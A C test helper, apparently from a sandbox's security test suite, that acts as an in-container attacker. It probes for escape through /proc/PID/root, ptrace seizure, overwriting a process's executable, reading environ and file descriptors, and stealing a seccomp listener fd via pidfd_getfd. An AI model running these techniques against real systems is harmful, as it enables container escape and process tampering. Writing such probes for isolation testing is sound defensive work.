/* The attacker inside a container for security-ptrace.bats (built there with cc -static).
 *
 *   ptrace-probe watch HOST_FILE STOP_FILE OUT
 *     Until STOP_FILE exists (at most 900 s, run-tests.sh's limit for a whole file; the test's
 *     teardown ends it sooner: 120 s was close to the 77 s exec_attack took under ASan at load
 *     12-17), watches the pid the namespace allocates next; each new process is tried at once:
 *     HOST_FILE through /proc/PID/root (it exists only on the host), PTRACE_SEIZE, and
 *     /proc/PID/exe. Lines to OUT: "root-escape PID", "seized PID EXE", "exe PID EXE", and
 *     "watched N" (how many new processes it saw) at the end.
 *   ptrace-probe overwrite PID OUT
 *     Opens /proc/PID/exe, then (in a child that outlives the caller) tries, for at most 60 s,
 *     to reopen it for writing and write to it. OUT gets "overwritten", or "refused ERRNO-TEXT",
 *     or "timeout".
 *   ptrace-probe reach PID HOST_FILE OUT
 *     Tries once what a process of the same uid could take from PID: HOST_FILE through
 *     /proc/PID/root, /proc/PID/cwd, each /proc/PID/fd/N (readlink), /proc/PID/environ, each fd
 *     through pidfd_getfd, PTRACE_SEIZE (then detach). Lines to OUT: "root-escape", "cwd PATH",
 *     "fd N TARGET", "environ", "fd-taken N", "seized", and "refused WHAT ERRNO-TEXT" for each kind
 *     that gave nothing.
 *   ptrace-probe listener PID OUT
 *     Tries to take PID's seccomp listener fd: PTRACE_SEIZE (then detach), and pidfd_getfd of each
 *     of its fds below 1024, looking for "anon_inode:seccomp notify". Lines to OUT: "seized",
 *     "listener-taken FD", or only "refused ERRNO-TEXT" (of the seize) when neither worked.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static FILE *out;

static long last_pid(void) {
  char buf[32] = "";
  int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
  long n = 0;
  if (fd >= 0) {
    if (read(fd, buf, sizeof(buf) - 1) > 0)
      n = strtol(buf, NULL, 10);
    close(fd);
  }
  return n;
}

static void sleep_ms(long ms) {
  struct timespec t = {.tv_sec = ms / 1000, .tv_nsec = (ms % 1000) * 1000000L};
  nanosleep(&t, NULL);
}

/* Returns 1 when pid existed and was tried. */
static int attack(long pid, const char *host_file) {
  char path[4096], exe[4096];
  ssize_t n;
  int fd;
  snprintf(path, sizeof(path), "/proc/%ld/root%s", pid, host_file);
  fd = open(path, O_RDONLY);
  if (fd >= 0) {
    fprintf(out, "root-escape %ld\n", pid);
    close(fd);
  }
  snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
  n = readlink(path, exe, sizeof(exe) - 1);
  exe[n > 0 ? n : 0] = '\0';
  if (ptrace(PTRACE_SEIZE, (pid_t)pid, NULL, NULL) == 0) {
    int status;
    /* stopped while we look, then let go (a seized process that execs would stop for us) */
    if (ptrace(PTRACE_INTERRUPT, (pid_t)pid, NULL, NULL) == 0)
      (void)waitpid((pid_t)pid, &status, __WALL);
    fprintf(out, "seized %ld %s\n", pid, exe);
    snprintf(path, sizeof(path), "/proc/%ld/root%s", pid, host_file);
    fd = open(path, O_RDONLY);
    if (fd >= 0) {
      fprintf(out, "root-escape %ld\n", pid);
      close(fd);
    }
    ptrace(PTRACE_DETACH, (pid_t)pid, NULL, NULL);
  }
  if (n > 0)
    fprintf(out, "exe %ld %s\n", pid, exe);
  fflush(out);
  return n > 0 || fd >= 0;
}

static int watch(const char *host_file, const char *stop_file) {
  time_t deadline = time(NULL) + 900;
  long seen = getpid(), watched = 0;
  while (access(stop_file, F_OK) != 0 && time(NULL) < deadline) {
    long next = last_pid();
    char proc[64];
    /* the newest pid and the next one: each is tried as soon as it exists */
    for (long pid = seen + 1; pid <= next + 1; pid++) {
      snprintf(proc, sizeof(proc), "/proc/%ld", pid);
      if (access(proc, F_OK) != 0)
        continue;
      attack(pid, host_file);
      watched++;
      seen = pid;
    }
    if (next > seen + 1)
      seen = next; /* missed: gone already */
  }
  fprintf(out, "watched %ld\n", watched);
  return 0;
}

static int overwrite(long pid) {
  char path[64];
  int exe, i;
  snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
  exe = open(path, O_RDONLY);
  if (exe < 0) {
    fprintf(out, "refused open: %s\n", strerror(errno));
    return 0;
  }
  if (fork() != 0)
    _exit(0); /* the caller (fsrun exec) returns; the child keeps the handle */
  setsid();
  snprintf(path, sizeof(path), "/proc/self/fd/%d", exe);
  for (i = 0; i < 1200; i++) {
    int fd = open(path, O_WRONLY);
    if (fd < 0 && errno == ETXTBSY) {
      sleep_ms(50);
      continue;
    }
    if (fd < 0) {
      fprintf(out, "refused %s\n", strerror(errno));
      return 0;
    }
    if (write(fd, "pwned", 5) == 5)
      fprintf(out, "overwritten\n");
    else
      fprintf(out, "refused %s\n", strerror(errno));
    return 0;
  }
  fprintf(out, "timeout\n");
  return 0;
}

/* Returns the fd number in pid of a seccomp listener we could take, or -1. */
static int take_listener(long pid) {
  int pidfd = (int)syscall(SYS_pidfd_open, (pid_t)pid, 0);
  char path[64], target[64];
  for (int n = 0; pidfd >= 0 && n < 1024; n++) {
    int fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0);
    ssize_t len;
    if (fd < 0)
      continue;
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    len = readlink(path, target, sizeof(target) - 1);
    close(fd);
    target[len > 0 ? len : 0] = '\0';
    if (strcmp(target, "anon_inode:seccomp notify") == 0)
      return n;
  }
  return -1;
}

static int listener(long pid) {
  int seized = ptrace(PTRACE_SEIZE, (pid_t)pid, NULL, NULL) == 0, saved = errno, fd;
  if (seized) {
    int status;
    fprintf(out, "seized\n");
    /* stopped, then let go: DETACH wants a stopped tracee */
    if (ptrace(PTRACE_INTERRUPT, (pid_t)pid, NULL, NULL) == 0)
      (void)waitpid((pid_t)pid, &status, __WALL);
    ptrace(PTRACE_DETACH, (pid_t)pid, NULL, NULL);
  }
  fd = take_listener(pid);
  if (fd >= 0)
    fprintf(out, "listener-taken %d\n", fd);
  if (!seized && fd < 0)
    fprintf(out, "refused %s\n", strerror(saved));
  return 0;
}

static void refused(const char *what, int e) {
  fprintf(out, "refused %s %s\n", what, strerror(e));
}

/* readlink of /proc/PID/fd/N for every N the directory lists (listing it may be allowed where
 * following its links is not) */
static void reach_fds(long pid) {
  char path[64], target[4096];
  int e = ENOENT, found = 0;
  for (int n = 0; n < 1024; n++) {
    ssize_t len;
    snprintf(path, sizeof(path), "/proc/%ld/fd/%d", pid, n);
    len = readlink(path, target, sizeof(target) - 1);
    if (len < 0) {
      if (errno != ENOENT)
        e = errno;
      continue;
    }
    target[len] = '\0';
    fprintf(out, "fd %d %s\n", n, target);
    found = 1;
  }
  if (!found)
    refused("fd", e);
}

static void reach_by_pidfd(long pid) {
  int pidfd = (int)syscall(SYS_pidfd_open, (pid_t)pid, 0), e = errno, taken = 0;
  for (int n = 0; pidfd >= 0 && n < 1024; n++) {
    int fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0);
    if (fd < 0) {
      if (errno != EBADF)
        e = errno;
      continue;
    }
    close(fd);
    fprintf(out, "fd-taken %d\n", n);
    taken = 1;
  }
  if (!taken)
    refused("getfd", e);
}

static int reach(long pid, const char *host_file) {
  char path[4096], cwd[4096], buf[16];
  ssize_t n;
  int fd, status;
  snprintf(path, sizeof(path), "/proc/%ld/root%s", pid, host_file);
  fd = open(path, O_RDONLY);
  if (fd >= 0) {
    fprintf(out, "root-escape\n");
    close(fd);
  } else {
    refused("root", errno);
  }
  snprintf(path, sizeof(path), "/proc/%ld/cwd", pid);
  n = readlink(path, cwd, sizeof(cwd) - 1);
  if (n >= 0) {
    cwd[n] = '\0';
    fprintf(out, "cwd %s\n", cwd);
  } else {
    refused("cwd", errno);
  }
  reach_fds(pid);
  snprintf(path, sizeof(path), "/proc/%ld/environ", pid);
  fd = open(path, O_RDONLY);
  if (fd >= 0 && read(fd, buf, sizeof(buf)) > 0)
    fprintf(out, "environ\n");
  else
    refused("environ", errno);
  if (fd >= 0)
    close(fd);
  reach_by_pidfd(pid);
  if (ptrace(PTRACE_SEIZE, (pid_t)pid, NULL, NULL) == 0) {
    fprintf(out, "seized\n");
    if (ptrace(PTRACE_INTERRUPT, (pid_t)pid, NULL, NULL) == 0)
      (void)waitpid((pid_t)pid, &status, __WALL);
    ptrace(PTRACE_DETACH, (pid_t)pid, NULL, NULL);
  } else {
    refused("seize", errno);
  }
  return 0;
}

int main(int argc, char **argv) {
  if (argc == 5 && strcmp(argv[1], "watch") == 0) {
    out = fopen(argv[4], "w");
    return out == NULL ? 1 : watch(argv[2], argv[3]);
  }
  if (argc == 4 && strcmp(argv[1], "overwrite") == 0) {
    out = fopen(argv[3], "w");
    return out == NULL ? 1 : overwrite(strtol(argv[2], NULL, 10));
  }
  if (argc == 5 && strcmp(argv[1], "reach") == 0) {
    out = fopen(argv[4], "w");
    return out == NULL ? 1 : reach(strtol(argv[2], NULL, 10), argv[3]);
  }
  if (argc == 4 && strcmp(argv[1], "listener") == 0) {
    out = fopen(argv[3], "w");
    return out == NULL ? 1 : listener(strtol(argv[2], NULL, 10));
  }
  fprintf(
      stderr,
      "usage: ptrace-probe watch HOST_FILE STOP_FILE OUT | overwrite PID OUT | listener PID OUT | "
      "reach PID HOST_FILE OUT\n");
  return 2;
}
